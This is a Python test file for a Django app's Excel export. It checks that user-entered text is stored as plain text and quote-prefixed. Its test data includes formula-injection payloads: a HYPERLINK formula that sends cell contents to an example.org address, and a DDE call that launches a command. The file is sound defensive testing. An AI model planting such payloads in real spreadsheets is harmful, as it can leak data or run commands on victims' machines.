"""Texts people typed reach the Excel file as text: never a formula, a link or a DDE call."""

import datetime
from io import BytesIO

import pytest
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from folkhalsa.spreadsheets import append_text_safe
from plans.models import Plan
from reports.models import FollowUpRound, MeasureReport
from tests.conftest import client_for

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("https://example.org/?d="&A1,"Klicka här")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r\n=1+1",
]


def _cells(content: bytes) -> dict:
    sheet = load_workbook(BytesIO(content)).active
    header = [cell.value for cell in sheet[1]]
    return dict(zip(header, sheet[2], strict=True))


def test_measure_texts_starting_like_formulas_are_written_as_text(alice, measure):
    measure.title, measure.target_group = HOSTILE[0], HOSTILE[1]
    measure.expected_result = HOSTILE[4]
    measure.save()
    round_ = FollowUpRound.objects.create(
        plan=measure.plan, year=2025, period="helar", due_on=datetime.date(2025, 12, 31)
    )
    MeasureReport.objects.create(
        round=round_, measure=measure, state="godkand", status="risk", progress=HOSTILE[2]
    )
    response = client_for(alice).get(reverse("reports:plan_measures_xlsx", args=[measure.plan.pk]))
    cells = _cells(response.content)
    expected = {
        "Insats": HOSTILE[0],
        "Målgrupp": HOSTILE[1],
        "Förväntat resultat": HOSTILE[4],
        "Hur går det?": HOSTILE[2],
    }
    for header, text in expected.items():
        assert cells[header].data_type == "s", header
        assert cells[header].value == text


def test_every_dangerous_start_is_kept_as_text_and_readable():
    book = Workbook()
    append_text_safe(book.active, [*HOSTILE, "Vanlig text", 120])
    out = BytesIO()
    book.save(out)
    row = load_workbook(BytesIO(out.getvalue())).active[1]
    assert [cell.value for cell in row[: len(HOSTILE)]] == HOSTILE
    assert all(cell.data_type == "s" for cell in row[: len(HOSTILE)])
    assert all(cell.quotePrefix for cell in row[: len(HOSTILE)])
    assert row[len(HOSTILE)].value == "Vanlig text" and not row[len(HOSTILE)].quotePrefix
    assert row[-1].value == 120 and row[-1].data_type == "n"


def test_control_characters_a_spreadsheet_cannot_hold_do_not_break_the_export(alice, measure):
    measure.title = "Läs\x01främjande\x1b insatser"
    measure.save()
    Plan.objects.filter(pk=measure.plan_id).update(title="Plan")
    response = client_for(alice).get(reverse("reports:plan_measures_xlsx", args=[measure.plan.pk]))
    assert response.status_code == 200
    assert _cells(response.content)["Insats"].value == "Läsfrämjande insatser"
